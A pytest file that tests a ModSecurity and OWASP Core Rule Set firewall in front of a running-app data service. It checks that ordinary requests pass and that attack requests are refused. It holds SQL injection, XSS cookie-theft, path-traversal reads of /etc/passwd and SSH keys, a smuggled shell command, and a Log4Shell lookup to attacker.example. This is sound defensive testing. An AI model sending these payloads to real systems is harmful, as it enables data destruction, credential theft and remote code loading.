"""ModSecurity with the OWASP Core Rule Set in front of the data service:
attacks are refused with 403, Runnerly's ordinary requests pass."""

import pytest
import requests

from chapter04.dataservice import create_app as create_data_service
from chapter04.monolith.models import db

RUN = {
    "strava_id": 1234,
    "name": "Morning run (10k, easy) - Tarek's",
    "distance": 10012.5,
    "start_date": "2017-05-20T07:12:44Z",
    "elapsed_time": 3120,
    "moving_time": 3060,
    "average_speed": 3.27,
    "max_speed": 4.1,
    "average_heartrate": 151.2,
    "total_elevation_gain": 42.0,
}

# (method, path, JSON body, headers): what Runnerly's dashboard and Strava
# worker send the data service.
ORDINARY = {
    "list users": ("GET", "/users", None, {}),
    "create a user": (
        "POST",
        "/users",
        {"email": "tarek@example.com", "firstname": "Tarek", "lastname": "Ziadé"},
        {},
    ),
    "a user": ("GET", "/users/1", None, {}),
    "add a run": ("POST", "/users/1/runs", RUN, {}),
    "a user's runs": ("GET", "/users/1/runs", None, {}),
    "a run": ("GET", "/runs/1", None, {}),
    "a browser's agent": (
        "GET",
        "/users",
        None,
        {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Firefox/128.0"},
    ),
}

ATTACKS = {
    "SQL injection in the query": ("GET", "/users?email=' OR '1'='1", None, {}),
    "SQL injection, UNION": (
        "GET",
        "/runs/1?order=1 UNION SELECT password FROM user--",
        None,
        {},
    ),
    "SQL injection in a JSON body": (
        "POST",
        "/users",
        {"email": "x@example.com' OR 1=1; DROP TABLE user; --"},
        {},
    ),
    "XSS in the query": (
        "GET",
        "/users?q=<script>alert(document.cookie)</script>",
        None,
        {},
    ),
    "XSS in a JSON body": (
        "POST",
        "/users",
        {"email": "a@example.com", "firstname": "<img src=x onerror=alert(1)>"},
        {},
    ),
    "path traversal": ("GET", "/runs/1?file=../../../../etc/passwd", None, {}),
    "path traversal, encoded": (
        "GET",
        "/runs/1?file=..%2f..%2f.ssh%2fid_rsa",
        None,
        {},
    ),
    "a scanner's user agent": ("GET", "/users", None, {"User-Agent": "sqlmap/1.7.2"}),
    "a shell command": ("GET", "/users?name=;cat /etc/passwd", None, {}),
}


@pytest.fixture
def modsecurity(waf, live_server, tmp_path):
    app = create_data_service(
        "testing", SQLALCHEMY_DATABASE_URI=f"sqlite:///{tmp_path}/data.db"
    )
    yield waf("modsecurity", live_server(app).url)
    with app.app_context():
        db.engine.dispose()


def send(proxy, method, path, body, headers):
    # CRS rule 920350 flags a Host that is an IP address: send a name.
    headers = {"Host": "localhost", **headers}
    return requests.request(
        method, f"{proxy.url}{path}", json=body, headers=headers, timeout=10
    )


def test_ordinary_runnerly_requests_pass(modsecurity):
    for name, request in ORDINARY.items():
        answer = send(modsecurity, *request)
        assert answer.status_code in (200, 201), (name, answer.text)


@pytest.mark.parametrize("request_", ATTACKS.values(), ids=ATTACKS.keys())
def test_an_attack_is_refused(modsecurity, request_):
    answer = send(modsecurity, *request_)
    assert answer.status_code == 403
    assert answer.json() == {"status": 403, "message": "Forbidden."}


def test_a_rule_set_knows_only_the_attacks_it_was_written_for(modsecurity):
    # CRS 3.3.4 predates Log4Shell (December 2021): a JNDI lookup in a header
    # passes. Rules need updates; the service must not rely on them alone.
    log4shell = {"X-Api-Version": "${jndi:ldap://attacker.example/a}"}
    assert send(modsecurity, "GET", "/users", None, log4shell).status_code == 200


def test_without_modsecurity_the_attacks_reach_the_service(waf, live_server):
    # The same requests through plain nginx: the service answers them itself.
    app = create_data_service("testing")
    proxy = waf("plain", live_server(app).url)
    for request in ATTACKS.values():
        assert send(proxy, *request).status_code != 403
    with app.app_context():
        db.engine.dispose()
